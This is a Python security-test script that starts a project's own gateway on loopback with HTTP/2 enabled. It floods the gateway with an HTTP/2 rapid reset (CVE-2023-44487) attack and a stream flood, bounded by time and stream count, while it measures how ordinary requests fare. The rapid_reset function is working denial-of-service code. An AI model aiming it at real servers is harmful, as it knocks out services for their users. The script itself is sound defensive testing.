"""HTTP/2 rapid reset (CVE-2023-44487) and stream flood against a second
gateway started with --http2, the opt-in configuration; the default one
does not offer HTTP/2 (checked by slow.py).  Debian's h2o 2.2.5 lacks the
2023 fix, which is why --http2 warns; this measures what an attacker gets:
ordinary requests are probed before and during a bounded flood (python3-h2,
loopback only).

Informational for the opt-in configuration: the result goes to
docs/security.md; the exit status is 1 only if the gateway crashed.
Writes $MACHI_SEC_OUT/h2.json.
"""

import json
import os
import socket
import ssl
import subprocess
import sys
import threading
import time

import h2.config
import h2.connection
import requests

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT = os.environ["MACHI_SEC_OUT"]
TMP = os.environ["MACHI_SEC_TMP"]
CA = os.environ["MACHI_SEC_CA"]
SECONDS = float(os.environ.get("MACHI_H2_SECONDS", "10"))
MAX_STREAMS = int(os.environ.get("MACHI_H2_STREAMS", "200000"))


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def probe(base, stop, stats):
    while not stop.is_set():
        t0 = time.monotonic()
        try:
            ok = requests.get(base + "/v1/tenants", verify=CA, timeout=5,
                              headers={"Connection": "close"}).status_code == 200
        except requests.RequestException:
            ok = False
        stats.append((ok, time.monotonic() - t0))
        stop.wait(0.1)


def measure(base, seconds, attack=None):
    stats, stop = [], threading.Event()
    th = threading.Thread(target=probe, args=(base, stop, stats))
    th.start()
    extra = attack() if attack else time.sleep(seconds)
    stop.set()
    th.join(10)
    lat = sorted(s[1] for s in stats if s[0])
    return {"requests": len(stats), "ok": sum(1 for s in stats if s[0]),
            "p50_ms": round(1000 * lat[len(lat) // 2]) if lat else None,
            "p95_ms": round(1000 * lat[int(len(lat) * 0.95) - 1]) if lat else None, "attack": extra}


def rapid_reset(port, reset=True):
    """Open streams and (optionally) cancel each at once, for SECONDS or MAX_STREAMS."""
    ctx = ssl.create_default_context(cafile=CA)
    ctx.set_alpn_protocols(["h2"])
    sent, errors, t_end = 0, 0, time.monotonic() + SECONDS
    while time.monotonic() < t_end and sent < MAX_STREAMS:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=5) as raw:
                with ctx.wrap_socket(raw, server_hostname="127.0.0.1") as s:
                    if s.selected_alpn_protocol() != "h2":
                        return {"error": "h2 not negotiated"}
                    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
                    conn.initiate_connection()
                    s.sendall(conn.data_to_send())
                    s.setblocking(False)
                    hdrs = [(":method", "GET"), (":path", "/v1/tenants"), (":scheme", "https"),
                            (":authority", f"127.0.0.1:{port}")]
                    while time.monotonic() < t_end and sent < MAX_STREAMS:
                        for _ in range(100):
                            sid = conn.get_next_available_stream_id()
                            conn.send_headers(sid, hdrs, end_stream=True)
                            if reset:
                                conn.reset_stream(sid)
                            sent += 1
                        s.setblocking(True)
                        s.sendall(conn.data_to_send())
                        s.setblocking(False)
                        try:
                            data = s.recv(65536)
                            if not data:
                                break
                            conn.receive_data(data)
                        except (ssl.SSLWantReadError, BlockingIOError):
                            pass
                        except h2.exceptions.ProtocolError:
                            break
        except (OSError, ssl.SSLError, h2.exceptions.H2Error):
            errors += 1
            if errors > 50:
                break
    return {"streams": sent, "connection_errors": errors, "reset": reset}


def main():
    port = free_port()
    base = f"https://127.0.0.1:{port}"
    conninfo = f"host={os.environ['PGHOST']} port={os.environ['PGPORT']} dbname={os.environ['MACHI_PG_DB']} user=machi_gateway"
    log = open(os.path.join(TMP, "gateway-h2.log"), "wb")
    gw = subprocess.Popen([os.path.join(ROOT, "gateway", "machi-gateway"), "--listen", f"127.0.0.1:{port}",
                           "--tls-cert", os.path.join(TMP, "tls", "cert.pem"), "--tls-key",
                           os.path.join(TMP, "tls", "key.pem"), "--conninfo", conninfo, "--threads", "2",
                           "--http2", "--access-log", "off"], stdout=log, stderr=log)
    try:
        for _ in range(50):
            try:
                if requests.get(base + "/v1/health", verify=CA, timeout=2).status_code == 200:
                    break
            except requests.RequestException:
                time.sleep(0.2)
        baseline = measure(base, 3)
        rr = measure(base, SECONDS, lambda: rapid_reset(port, True))
        flood = measure(base, SECONDS, lambda: rapid_reset(port, False))
        alive = gw.poll() is None
        try:
            after = requests.get(base + "/v1/health", verify=CA, timeout=10).status_code
        except requests.RequestException as exc:
            after = repr(exc)
    finally:
        gw.terminate()
        try:
            gw.wait(20)
        except subprocess.TimeoutExpired:
            gw.kill()
        log.close()
    summary = {"tool": "python3-h2", "version": h2.__version__, "baseline": baseline, "rapid_reset": rr,
               "stream_flood": flood, "gateway_alive": alive, "health_after": after}
    with open(os.path.join(OUT, "h2.json"), "w") as f:
        json.dump(summary, f, indent=1)
    print(json.dumps(summary, indent=1))
    return 0 if alive else 1


if __name__ == "__main__":
    sys.exit(main())
